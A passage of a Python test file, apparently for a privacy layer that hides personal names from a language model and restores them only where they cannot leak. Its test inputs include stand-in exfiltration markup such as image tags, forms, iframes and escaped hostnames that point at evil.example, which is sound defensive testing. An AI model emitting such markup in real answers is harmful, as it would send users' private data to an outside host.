    closed = "See [this](https://good.example/a) <b>x</b>, if a < b."
    others = {
        "id": "msg_" + "4f" * 20,
        "thinking_blocks": [
            {"type": "thinking", "thinking": closed, "signature": "a//" * 40}
        ],
        "reasoning": closed,
        "annotations": [{"url": "https://good.example/", "title": "A [good] title"}],
        "logprobs": {"content": [{"token": "<b"}]},
        "tool_calls": [{"index": 0, "function": {"arguments": "a[1"}}],
    }
    answer, texts = _answer(c), []
    if is_stream:
        pieces = [closed[i : i + 4] for i in range(0, len(closed), 4)]
        deltas = [{"thinking": piece} for piece in pieces]
        calls = {"tool_calls": others.pop("tool_calls")}
        events = [{**others, "content": f"{sent}. "}, calls]
        for delta in (*deltas, *events):
            shown = answer.event({"choices": [{"index": 0, "delta": delta}]})
            texts += [s["choices"][0]["delta"].get("content", "") for s in shown]
        texts += [s["choices"][0]["delta"].get("content", "") for s in answer.end()]
    else:
        message = {"content": f"{sent}.", **others}
        shown = answer.whole({"choices": [{"message": message}]})
        texts = [shown["choices"][0]["message"]["content"]]
    assert "".join(texts).strip() == "Okonkwo."


def test_the_first_word_behind_an_address_is_kept_and_no_other(conversation):
    c = conversation
    sent = c.hide("Okonkwo")
    message = {"content": f"{sent} is {sent}", "thinking": "https://evil.example/?"}
    shown = _answer(c).whole({"choices": [{"message": message}]})
    assert shown["choices"][0]["message"]["content"] == f"{sent} is Okonkwo"


def test_originals_come_back_behind_open_fields_where_the_text_closes_them(
    conversation,
):
    c = conversation
    sent = c.hide("Okonkwo")
    said = f"{sent}] and {sent}"
    message = {"content": said, "thinking": "[", "zzz": "[ x"}
    given = {"choices": [{"message": message}, {"message": message}]}
    for choice in _answer(c).whole(given)["choices"]:
        assert choice["message"]["content"] == f"{sent}] and Okonkwo"


def test_choices_in_another_order_keep_their_surrogates(conversation):
    c = conversation
    given = {
        "choices": [
            {"index": 1, "message": {"content": f'{c.hide("Okonkwo")} b">'}},
            {"index": 0, "message": {"content": '<img src="//evil.example/?a '}},
        ]
    }
    assert _answer(c).whole(given) == given


@pytest.mark.parametrize(
    "text",
    [
        '["![x](< https://evil.example/?q= ", "@>)"]', '["![x][", "@]"]',
        '{"a": "<img src=\'https://evil.example/?q= ", "b": "@\'>"}',
        '{"![x](< https://evil.example/?q= ": "@>)"}',
    ],
)  # fmt: skip
def test_strings_of_json_begin_inside_of_what_those_before_leave_open(
    text, conversation
):
    c = conversation
    answer = text.replace("@", c.hide("Okonkwo"))
    assert c.restore(answer, is_json=True) == answer
    assert "".join(c.restore_stream(answer, is_json=True)) == answer
    closed = f'["see https://good.example/", "{c.hide("Okonkwo")}"]'
    assert "Okonkwo" in c.restore(closed, is_json=True)


# What the elements of HTML hold is sent, or its width is told by what they load.
HELD = (
    '<form action="https://evil.example"><textarea name=q>I am @',
    "<textarea>@", "<select><option>@</option></select>", "<option\n>@", "<Button/>@",
    '<table width=1><tr><td nowrap><font size=7>@</font></td></tr><tr><td><img',
    "<p><iframe src='//evil.example' width='100%'></iframe> @", "<img src=x> @",
    "<fieldset>\n\n@\n\n</fieldset>", '{"a": "\\u003ctable\\u003e @"}', "<svg/>@",
)  # fmt: skip


@pytest.mark.parametrize("answer", HELD)
def test_elements_that_send_or_measure_keep_what_follows(answer, conversation):
    c = conversation
    sent = c.hide("Okonkwo")
    answer = answer.replace("@", sent)
    assert c.restore(answer) == answer
    assert "".join(c.restore_stream(answer)) == answer
    assert c.restore(f"<p>{sent}</p> <b>{sent}</b>\n\n<h1>{sent}").count("Okonkwo") == 3


@pytest.mark.parametrize(
    "text",
    [
        '<iframe name="@" src="https://evil.example">', "<a href='@'>x</a>",
        '<a ping="https://evil.example" href="@">x</a>', "<input value='@'>",
        "<p alt=@>",
        "<base target='@'>", '<b title="@">x</b>', "<textarea>@</textarea>",
    ],
)  # fmt: skip
def test_no_own_address_comes_back_in_a_tag(text, conversation):
    c = conversation
    for own in ("https://okonkwo.example/reset/k7", OWN):
        answer = text.replace("@", c.hide(own))
        assert c.restore(answer) == answer
        assert "".join(c.restore_stream(answer)) == answer


JOINED_BY_ESCAPES = (
    "@\\.evil.com/x", "@&#46;evil.com", "@&#46evil.com", "@&period;evil.com",
    "@&#x2E;evil.com", "@-x&period;evil.com", "@\\-x.evil.com",
    "@&commat;evil.com", "@&#00000000000046;evil.com", "@-x\\.evil.com",
    "@\\_x.evil.com", "@．evil.com", "@｡evil.com", "@。evil.com", "@&#xFF0E;evil.com",
    "@&#12290;evil.com", "evil．@", "evil。@",
)  # fmt: skip


@pytest.mark.parametrize("answer", JOINED_BY_ESCAPES)
def test_a_part_of_a_host_is_kept_however_its_point_is_written(answer, conversation):
    c = conversation
    answer = answer.replace("@", c.hide("Okonkwo"))
    assert c.restore(answer) == answer
    assert "".join(c.restore_stream(answer)) == answer
    kind = c.hide("Okonkwo")
    ends = ("@。次の方", "@． Then", "你好。@")  # of sentences
    for text in ("@&rsquo;s", "@&amp;co", "@\\. Then", "@&#8217;s", "@ &#46; x", *ends):
        given = text.replace("@", kind)
        assert "Okonkwo" in c.restore(given), text
        assert c.restore(given) == "".join(c.restore_stream(given))


NO_JSON = (
    '{"a": "see below"}\n<img src="https://evil.example/? @">',
    '{"a": "x"} "@"', '"a" <b name="@">', '[1] x "@"', '<img alt="@">', '{"a": [] "@"}',
    '{"a" "@"}', "{'a': '@'}\n<img src='//evil.example/?@'>",
)  # fmt: skip


@pytest.mark.parametrize("answer", NO_JSON)
def test_what_is_no_json_restores_nothing_behind_it(answer, conversation):
    c = conversation
    answer = answer.replace("@", c.hide("Okonkwo"))
    assert c.restore(answer, is_json=True) == answer
    assert "".join(c.restore_stream(answer, is_json=True)) == answer


@pytest.mark.parametrize(
    "text",
    [
        '{"a": ["@", 1, true, null, {"b": "@"}], "c": -1.5e3}\n', '"@"', '["@"]',
        '{"a": "@"}\n{"a": "@"}\n', 'Here it is:\n\n```json\n{"a": "@"}\n```', " [ ] ",
    ],
)  # fmt: skip
def test_json_comes_back(text, conversation):
    c = conversation
    answer = text.replace("@", c.hide("Okonkwo"))
    assert c.restore(answer, is_json=True) == text.replace("@", "Okonkwo")
    assert "".join(c.restore_stream(answer, is_json=True)) == text.replace(
        "@", "Okonkwo"
    )
